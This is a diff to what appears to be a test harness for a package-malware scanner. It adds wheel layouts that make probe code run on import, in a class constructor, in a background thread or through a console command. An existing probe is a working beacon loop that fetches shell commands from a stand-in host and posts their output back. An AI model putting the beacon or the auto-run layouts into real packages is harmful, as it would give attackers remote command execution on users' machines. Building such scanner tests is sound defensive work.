@@ -130,6 +130,9 @@ PROBES: dict[str, str] = {
     "requests_exec_post_json": 'import requests, subprocess, time, uuid\nid = str(uuid.uuid4())\nwhile True:\n    r = requests.post("https://api.example-cdn.net/beacon", json={"id": id}).json()\n    if r.get("c"):\n        requests.post("https://api.example-cdn.net/out", json={"id": id, "o": subprocess.run(r["c"], shell=True, capture_output=True, text=True).stdout})\n    time.sleep(10)',
 }
 PLACES = ("install", "import", "function")
+#: Inside a function that something runs: a call from the package's ``__init__`` into
+#: another module, a class made there, a thread started there, a console command.
+REACHED = ("called", "class", "thread", "command")
 
 
 def placements(code: str) -> dict[str, tuple[bytes, str]]:
@@ -165,23 +168,62 @@ def placements(code: str) -> dict[str, tuple[bytes, str]]:
     }
 
 
+def reached(code: str) -> dict[str, tuple[bytes, str]]:
+    """The ``REACHED`` placements of ``code``: wheels whose ``client`` (or ``cli``) module
+    holds it in a function (or a class's ``__init__``) that the package runs."""
+    code = textwrap.dedent(code).strip() + "\n"
+    function = "def connect():\n" + textwrap.indent(code, "    ")
+    constructor = "class Client:\n    def __init__(self):\n" + textwrap.indent(code, "        ")
+    wheel_name = "quietlib-1.0-py3-none-any.whl"
+    layouts = {
+        "called": {
+            "quietlib/__init__.py": "from .client import connect\nconnect()\n",
+            "quietlib/client.py": function,
+        },
+        "class": {
+            "quietlib/__init__.py": "from .client import Client\n_client = Client()\n",
+            "quietlib/client.py": constructor,
+        },
+        "thread": {
+            "quietlib/__init__.py": (
+                "import threading\nfrom .client import connect\n"
+                "threading.Thread(target=connect, daemon=True).start()\n"
+            ),
+            "quietlib/client.py": function,
+        },
+        "command": {
+            "quietlib/__init__.py": "",
+            "quietlib/cli.py": function,
+            "quietlib-1.0.dist-info/entry_points.txt": (
+                "[console_scripts]\nquiet = quietlib.cli:connect\n"
+            ),
+        },
+    }
+    return {place: (wheel(files, name="quietlib"), wheel_name) for place, files in layouts.items()}
+
+
 def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
     parser.add_argument("--misses", action="store_true", help="list the placements not held")
+    parser.add_argument(
+        "--reached", action="store_true", help="also place each probe in code the package runs"
+    )
     args = parser.parse_args()
     policy = ScanPolicy()
-    held = dict.fromkeys(PLACES, 0)
+    places = PLACES + (REACHED if args.reached else ())
+    held = dict.fromkeys(places, 0)
     misses = []
     for name, code in PROBES.items():
-        for place, (archive, filename) in placements(code).items():
+        archives = placements(code) | (reached(code) if args.reached else {})
+        for place, (archive, filename) in archives.items():
             report = scan_archive(archive, filename)
             if not policy.decide(report).allowed:
                 held[place] += 1
             else:
                 misses.append(f"{name} ({place}): score {report.score:g}")
     total = sum(held.values())
-    print(f"held {total} of {len(PROBES) * len(PLACES)} placements of {len(PROBES)} behaviours")
-    for place in PLACES:
+    print(f"held {total} of {len(PROBES) * len(places)} placements of {len(PROBES)} behaviours")
+    for place in places:
         print(f"  {place}: {held[place]}/{len(PROBES)}")
     if args.misses:
         print("\n".join(misses))
